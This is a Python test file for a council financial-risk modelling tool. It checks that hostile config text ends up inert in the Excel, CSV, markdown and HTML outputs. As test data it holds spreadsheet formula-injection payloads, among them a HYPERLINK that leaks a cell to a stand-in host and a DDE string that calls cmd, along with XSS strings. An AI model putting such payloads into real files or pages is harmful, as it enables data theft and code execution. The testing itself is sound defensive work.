"""A hostile or careless config cannot reach outside --out, run code in a reader's Excel or browser, or
make a resumed run trust damaged files. The one-line refusals are catalogued in test_bad_inputs.py;
this file checks what the outputs hold and what is left on disk."""
import copy
import csv
import re
import zipfile

import openpyxl
import pytest
import yaml

from fsp_risk import cli

CONFIG = "configs/oxfordshire-2024-commissioning.yaml"
BASE = yaml.safe_load(open(CONFIG, encoding="utf-8"))

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
HOSTILE = {
    "title": "<script>alert('title')</script> costs $x^2$",
    "council": "<img src=x onerror=alert(1)>",
    "risk_title": FORMULA,
    "risk_owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "input_title": "+1+1 [click](javascript:alert(1))",
    "input_source": "-2+3 # not a heading\n\n<script>alert(2)</script>",
    "scenario_title": "\t=1+2 $\\notacommand{b}$ <b>bold</b>",
}


def hostile_config(tmp_path):
    data = copy.deepcopy(BASE)
    data["title"], data["council"] = HOSTILE["title"], HOSTILE["council"]
    risk = data["risk_register"]["risks"][0]
    risk["title"], risk["owner"] = HOSTILE["risk_title"], HOSTILE["risk_owner"]
    top = data["inputs"]["demand_growth_multiplier"]
    top["title"], top["source"] = HOSTILE["input_title"], HOSTILE["input_source"]
    data["scenarios"]["grant_lost"]["title"] = HOSTILE["scenario_title"]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    out = tmp / "out"
    assert cli.main(["run", str(hostile_config(tmp)), "--iterations", "2000", "--out", str(out)]) == 0
    (folder,) = [p for p in out.iterdir() if not p.name.startswith(".")]
    return folder


def test_no_workbook_cell_is_a_formula(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "summary.xlsx")
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # The hostile texts are there, as text, each as typed.
    assert FORMULA in texts and HOSTILE["risk_owner"] in texts
    with zipfile.ZipFile(hostile_run / "summary.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def test_no_csv_field_starts_like_a_formula(hostile_run):
    files = sorted(hostile_run.glob("*.csv"))
    assert {"risk_register.csv", "scenarios.csv", "sensitivity.csv"} <= {f.name for f in files}
    seen = set()
    for f in files:
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for field in row:
                    seen.add(field)
                    if field.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(field)  # only a number may start with '-' or '+'
    # OWASP's neutralisation: a leading apostrophe, the text otherwise as typed.
    assert "'" + FORMULA in seen and "'" + HOSTILE["risk_owner"] in seen
    assert "'" + HOSTILE["scenario_title"].strip() in seen  # texts are read stripped


def test_findings_and_report_carry_no_live_markup(hostile_run):
    findings = (hostile_run / "findings.md").read_text(encoding="utf-8")
    # No tag, link or heading that a markdown renderer would act on: each '<', '[' and ']' escaped.
    assert not re.search(r"(?<!\\)[<\[\]]", findings), re.search(r".{20}(?<!\\)[<\[\]].{20}", findings)
    assert "\n# not a heading" not in findings
    assert r"\<script\>alert('title')\</script\>" in findings  # shown as typed when rendered
    assert "\\<img src=x onerror=alert(1)\\>" in findings
    page = (hostile_run / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img src=x" not in page and "<b>bold" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_tex_like_titles_are_drawn_as_typed(hostile_run, tmp_path):
    # The run finished (the fixture) with '$\notacommand{b}$' in a scenario title, which matplotlib's
    # mathtext cannot parse; drawn as typed, it is simply text.
    assert (hostile_run / "charts" / "scenarios.png").is_file()
    import matplotlib.pyplot as plt

    from fsp_risk.plots import save_figure

    fig, ax = plt.subplots()
    ax.set_title(r"Costs $\notacommand{x}$ and more")
    save_figure(fig, tmp_path, "t")
    assert (tmp_path / "t.png").stat().st_size > 0
